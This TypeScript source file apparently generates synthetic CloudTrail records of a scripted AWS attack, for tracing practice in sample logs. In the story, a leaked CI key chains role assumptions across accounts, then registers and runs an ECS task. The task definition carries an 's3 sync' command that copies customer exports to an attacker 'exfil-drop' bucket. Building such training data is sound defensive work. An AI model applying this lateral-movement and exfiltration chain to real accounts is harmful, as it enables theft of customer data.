import { Random } from './random.js';
import { buildRecord } from './events.js';
import type { CallSpec } from './events.js';
import type { Account, Actor, Json } from './identities.js';
import { STORY } from './story.js';

/**
 * The chain worth tracing in samples/ (samples/README.md, issue 20): after the enumeration in
 * story.ts, the leaked ci-deploy key assumes TerraformDeploy in its own account, chains from that
 * session into OrganizationAccountAccessRole in the dev account (logged in both accounts, as
 * cross-account AssumeRole is), registers a task definition and runs an ECS task there, and the
 * task's role reads customer exports from S3. Its own PRNG keeps it out of the background's draws.
 */
export const TRACE_STORY = {
  day: STORY.day,
  targetAccountId: '444455556666',
  bridgeRole: 'TerraformDeploy',
  crossAccountRole: 'OrganizationAccountAccessRole',
  taskRole: 'data-sync-task-role',
  region: 'eu-west-1',
  cluster: 'batch',
  bucket: 'acme-dev-customer-exports',
  taskIp: '203.0.113.77',
  /** A second VPS: the enumeration's address (story.ts) stays the story's own. */
  attackerIp: '198.51.100.42',
} as const;

interface Session {
  readonly arn: string;
  readonly roleArn: string;
  readonly roleId: string;
  readonly accessKeyId: string;
  readonly createdAt: string;
}

/** Every record of the chain, for all accounts and regions; the archive delivers each where it belongs. */
export function traceStoryRecords(seed: number, home: Account, target: Account): Json[] {
  const random = new Random(seed ^ 0x7ace);
  const leaked = home.actors.find((actor) => actor.name === 'ci-deploy')!;
  const at = (time: string) => `${TRACE_STORY.day}T${time}Z`;
  const attacker = { sourceIp: TRACE_STORY.attackerIp, userAgent: STORY.userAgent };
  const records: Json[] = [];

  const bridge = newSession(
    random,
    home.id,
    TRACE_STORY.bridgeRole,
    `terraform-${random.between(1_000_000, 9_999_999)}`,
    at('14:21:07'),
  );
  records.push(
    buildRecord(
      random,
      { account: home, region: 'us-east-1', time: bridge.createdAt },
      leaked,
      assumeRole(home, bridge),
      attacker,
    ),
  );

  const cross = newSession(random, target.id, TRACE_STORY.crossAccountRole, 'sync', at('14:22:30'));
  const bridgeActor = sessionActor(bridge, TRACE_STORY.attackerIp);
  const callerCopy = buildRecord(
    random,
    { account: home, region: 'us-east-1', time: cross.createdAt },
    bridgeActor,
    assumeRole(target, cross),
    attacker,
  );
  records.push(...crossAccountCopies(random, callerCopy, target, bridge));

  const crossActor = sessionActor(cross, TRACE_STORY.attackerIp);
  const context = (time: string) => ({ account: target, region: TRACE_STORY.region, time: at(time) });
  const taskRoleArn = `arn:aws:iam::${target.id}:role/${TRACE_STORY.taskRole}`;
  const taskDefinitionArn = `arn:aws:ecs:${TRACE_STORY.region}:${target.id}:task-definition/data-sync:1`;
  records.push(
    buildRecord(
      random,
      context('14:24:10'),
      crossActor,
      {
        source: 'ecs.amazonaws.com',
        name: 'RegisterTaskDefinition',
        readOnly: false,
        request: {
          family: 'data-sync',
          taskRoleArn,
          networkMode: 'awsvpc',
          requiresCompatibilities: ['FARGATE'],
          cpu: '1024',
          memory: '2048',
          containerDefinitions: [
            {
              name: 'sync',
              image: 'public.ecr.aws/aws-cli/aws-cli:latest',
              essential: true,
              command: ['s3', 'sync', `s3://${TRACE_STORY.bucket}/exports/`, `s3://exfil-drop-${random.hex(6)}/`],
            },
          ],
        },
        response: {
          taskDefinition: { taskDefinitionArn, family: 'data-sync', revision: 1, taskRoleArn, status: 'ACTIVE' },
        },
      },
      attacker,
    ),
  );
  const taskId = random.hex(32);
  const taskArn = `arn:aws:ecs:${TRACE_STORY.region}:${target.id}:task/${TRACE_STORY.cluster}/${taskId}`;
  records.push(
    buildRecord(
      random,
      context('14:24:45'),
      crossActor,
      {
        source: 'ecs.amazonaws.com',
        name: 'RunTask',
        readOnly: false,
        request: { cluster: TRACE_STORY.cluster, taskDefinition: 'data-sync:1', count: 1, launchType: 'FARGATE' },
        response: {
          tasks: [
            {
              taskArn,
              clusterArn: `arn:aws:ecs:${TRACE_STORY.region}:${target.id}:cluster/${TRACE_STORY.cluster}`,
              taskDefinitionArn,
              lastStatus: 'PROVISIONING',
              desiredStatus: 'RUNNING',
              launchType: 'FARGATE',
            },
          ],
          failures: [],
        },
      },
      attacker,
    ),
  );

  const task = newSession(random, target.id, TRACE_STORY.taskRole, taskId, at('14:25:20'));
  records.push(buildRecord(random, context('14:25:20'), ecsTasksService, assumeRole(target, task)));
  const taskActor = sessionActor(task, TRACE_STORY.taskIp);
  const reads: [string, CallSpec][] = [
    [
      '14:26:02',
      {
        source: 's3.amazonaws.com',
        name: 'ListObjects',
        readOnly: true,
        category: 'Data',
        request: {
          bucketName: TRACE_STORY.bucket,
          prefix: 'exports/',
          Host: `${TRACE_STORY.bucket}.s3.${TRACE_STORY.region}.amazonaws.com`,
        },
        response: null,
        resources: [{ accountId: target.id, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${TRACE_STORY.bucket}` }],
      },
    ],
    ...['customers-2026-02.csv', 'customers-2026-03.csv', 'payments-2026-03.parquet'].map(
      (name, i): [string, CallSpec] => [`14:2${6 + i}:4${i}`, getObject(target, `exports/${name}`)],
    ),
    [
      '14:29:13',
      {
        source: 'secretsmanager.amazonaws.com',
        name: 'GetSecretValue',
        readOnly: true,
        request: { secretId: 'prod/exports/db' },
        response: null,
        error: {
          code: 'AccessDenied',
          message:
            `User: ${task.arn} is not authorized to perform: secretsmanager:GetSecretValue ` +
            'on resource: prod/exports/db ' +
            'because no identity-based policy allows the secretsmanager:GetSecretValue action',
        },
      },
    ],
  ];
  for (const [time, spec] of reads)
    records.push(
      buildRecord(random, context(time), taskActor, spec, {
        userAgent: 'aws-cli/2.15.30 Python/3.11.8 Linux/5.10.219-208.866.amzn2.x86_64 exec-env/AWS_ECS_FARGATE',
      }),
    );
  return records;
}

function newSession(random: Random, accountId: string, role: string, sessionName: string, createdAt: string): Session {
  return {
    arn: `arn:aws:sts::${accountId}:assumed-role/${role}/${sessionName}`,
    roleArn: `arn:aws:iam::${accountId}:role/${role}`,
    roleId: `AROA${random.upperAlnum(17)}`,
    accessKeyId: `ASIA${random.upperAlnum(16)}`,
    createdAt,
  };
}

function assumeRole(roleAccount: Account, session: Session): CallSpec {
  const sessionName = session.arn.split('/').pop()!;
  return {
    source: 'sts.amazonaws.com',
    name: 'AssumeRole',
    readOnly: true,
    request: { roleArn: session.roleArn, roleSessionName: sessionName, durationSeconds: 3600 },
    response: {
      credentials: {
        accessKeyId: session.accessKeyId,
        sessionToken: `IQoJb3JpZ2luX2VjE${session.accessKeyId.slice(4)}`,
        expiration: 'Mar 3, 2026, 3:25:20 PM',
      },
      assumedRoleUser: { assumedRoleId: `${session.roleId}:${sessionName}`, arn: session.arn },
    },
    resources: [{ accountId: roleAccount.id, type: 'AWS::IAM::Role', ARN: session.roleArn }],
  };
}

/**
 * A cross-account AssumeRole is logged twice: in the caller's account with the full identity, and in
 * the role's account, where the caller is only an AWSAccount principal. One request, one sharedEventID.
 */
function crossAccountCopies(random: Random, callerCopy: Json, roleAccount: Account, caller: Session): Json[] {
  const sharedEventID = random.uuid();
  const sessionName = caller.arn.split('/').pop()!;
  const roleCopy: Json = {
    ...callerCopy,
    userIdentity: {
      type: 'AWSAccount',
      principalId: `${caller.roleId}:${sessionName}`,
      accountId: caller.arn.split(':')[4],
    },
    eventID: random.uuid(),
    recipientAccountId: roleAccount.id,
    sharedEventID,
  };
  return [{ ...callerCopy, sharedEventID }, roleCopy];
}

function sessionActor(session: Session, sourceIp: string): Actor {
  const [, accountId, , role, sessionName] = /^arn:aws:sts::(\d+):(assumed-role)\/([^/]+)\/(.+)$/.exec(session.arn)!;
  const identity = {
    type: 'AssumedRole',
    principalId: `${session.roleId}:${sessionName}`,
    arn: session.arn,
    accountId,
    accessKeyId: session.accessKeyId,
    sessionContext: {
      sessionIssuer: { type: 'Role', principalId: session.roleId, arn: session.roleArn, accountId, userName: role },
      attributes: { creationDate: session.createdAt, mfaAuthenticated: 'false' },
    },
  };
  return { name: sessionName!, userIdentity: () => identity, sourceIp, userAgents: [STORY.userAgent], weight: 0 };
}

const ecsTasksService: Actor = {
  name: 'ecs-tasks',
  userIdentity: () => ({ type: 'AWSService', invokedBy: 'ecs-tasks.amazonaws.com' }),
  sourceIp: 'ecs-tasks.amazonaws.com',
  userAgents: ['ecs-tasks.amazonaws.com'],
  weight: 0,
};

function getObject(account: Account, key: string): CallSpec {
  return {
    source: 's3.amazonaws.com',
    name: 'GetObject',
    readOnly: true,
    category: 'Data',
    request: {
      bucketName: TRACE_STORY.bucket,
      Host: `${TRACE_STORY.bucket}.s3.${TRACE_STORY.region}.amazonaws.com`,
      key,
    },
    response: null,
    resources: [
      { type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${TRACE_STORY.bucket}/${key}` },
      { accountId: account.id, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${TRACE_STORY.bucket}` },
    ],
  };
}
